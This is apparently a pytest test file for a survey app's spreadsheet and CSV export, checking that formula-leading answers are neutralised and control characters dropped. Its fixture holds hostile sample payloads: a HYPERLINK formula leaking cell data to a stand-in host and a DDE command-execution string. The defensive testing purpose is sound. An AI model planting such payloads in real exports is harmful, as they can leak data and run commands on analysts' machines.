"""Exports can never run code in the analysts' spreadsheet nor fail on text: formula-leading answers become text
(OWASP's rule), characters XML forbids are dropped from the XLSX, plain numbers stay numbers."""

from __future__ import annotations

import csv
import uuid
import zipfile

import pytest

from survey_app.extensions import db
from survey_app.services import responses
from tests.survey_app.conftest import DURING

PLANTED = [
    '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "Bình thường, không có gì",
]
CONTROL = "Dán\x0btừ Word\x1bvà\x00NUL"


@pytest.fixture
def planted(surveys, storage_questionnaire):
    """Responses stored with hostile comments (as rows stored before input was cleaned could be)."""
    survey = surveys["anonymous"]
    for text in [*PLANTED, CONTROL]:
        responses.store_paper(survey, surveys["HP-SNV"], survey.groups[0], {"Q1": "2", "Q5": text, "Q6": -5.0},
                              uuid.uuid4(), DURING.date())
    db.session.commit()
    return survey


def export(runner, tmp_path, fmt):
    out = tmp_path / f"out.{fmt}"
    result = runner.invoke(args=["export", "responses", "--survey", "anon", "--format", fmt, "--out", str(out)])
    assert result.exit_code == 0, result.output
    return out


def test_xlsx_export_writes_every_answer_as_text_and_never_a_formula(planted, runner, tmp_path):
    from openpyxl import load_workbook

    out = export(runner, tmp_path, "xlsx")
    with zipfile.ZipFile(out) as archive:
        sheets = [archive.read(n).decode() for n in archive.namelist() if n.startswith("xl/worksheets/")]
    assert not any("<f>" in sheet or "<f " in sheet for sheet in sheets), "a cell was written as a formula"
    sheet = load_workbook(out)["responses"]
    header = [c.value for c in sheet[1]]
    comments = {row[header.index("Q5")].value: row[header.index("Q5")] for row in sheet.iter_rows(min_row=2)}
    for text in PLANTED:
        cell = comments[text]
        assert cell.data_type == "s"
        assert cell.quotePrefix == text.startswith(("=", "+", "-", "@", "\t")), text
    assert "Dántừ WordvàNUL" in comments, "characters XML forbids are dropped, the export does not fail"
    scores = {row[header.index("Q6")].value for row in sheet.iter_rows(min_row=2)}
    assert scores == {-5}, "numbers stay numbers"


def test_csv_export_prefixes_formula_leading_answers_with_an_apostrophe(planted, runner, tmp_path):
    out = export(runner, tmp_path, "csv")
    with out.open(encoding="utf-8-sig", newline="") as fh:
        records = list(csv.DictReader(fh))
    comments = {r["Q5"] for r in records}
    expected = {("'" + t if t[0] in "=+-@\t" else t) for t in PLANTED}
    assert expected <= comments
    assert {r["Q6"] for r in records} == {"-5"} and {r["Q2"] for r in records} == {"-97"}, "numbers are untouched"
    assert {r["Q4_a"] for r in records} == {"-97"}, "text missing codes are plain numbers, never prefixed"


@pytest.mark.parametrize("text, safe", [
    ("=1+1", "'=1+1"), ("-97", "-97"), ("-3.5", "-3.5"), ("+84 912 345 678", "'+84 912 345 678"),
    ("@user", "'@user"), ("\rx", "'\rx"), ("a=b", "a=b"), ("", ""),
])
def test_the_csv_rule_in_isolation(text, safe):
    from survey_app.services.cell_safety import csv_text

    assert csv_text(text) == safe


def test_a_csv_column_that_outgrows_its_memo_still_neutralises_every_cell(monkeypatch):
    """The CSV writer remembers each column's converted values across chunks up to a limit, then starts afresh;
    a formula seen before and after the memo was emptied is neutralised both times."""
    from survey_app.services import exports_columns

    monkeypatch.setattr(exports_columns, "CSV_MEMO_LIMIT", 2)
    [memo] = exports_columns.csv_columns(1)  # the converter the CSV writer keeps for a column
    column = ["=1+1", "a", "b", "=1+1", 3.0, "=1+1"]
    assert memo.column(column) == ["'=1+1", "a", "b", "'=1+1", "3", "'=1+1"]
    assert len(memo) <= 2
